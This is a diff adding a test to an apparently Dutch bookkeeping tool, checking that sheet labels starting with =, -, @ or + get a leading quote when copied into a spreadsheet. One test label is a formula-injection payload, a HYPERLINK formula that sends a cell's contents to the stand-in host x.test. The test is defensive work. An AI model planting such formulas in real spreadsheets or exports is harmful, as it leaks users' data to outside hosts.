@@ -147,3 +147,12 @@ describe("copied figures with hostile names from the client's files", () => {
     }
   });
 });
+
+describe("copied All sheets lines pasted into a sheet", () => {
+  it.each(['=HYPERLINK("http://x.test/?"&A1,"klik")', "-2025", "@SUM(A1)", "+31 Amsterdam"])("start with a quote when the label is %j: each line is a cell, and stays text", (label) => {
+    const t = readTable([["Datum", "Bedrag"], [46054, 15000]]);
+    const lines = buildOverview([{ id: "s1", sheet: label, table: null, rows: t.rows, problems: t.problems }], EMPTY_GROUPING, { today: TODAY });
+    const line = overviewFiguresText(lines, "nl", TODAY).split("\n")[2];
+    expect(line.startsWith(`'${label} — Jaar: 2026;`)).toBe(true);
+  });
+});
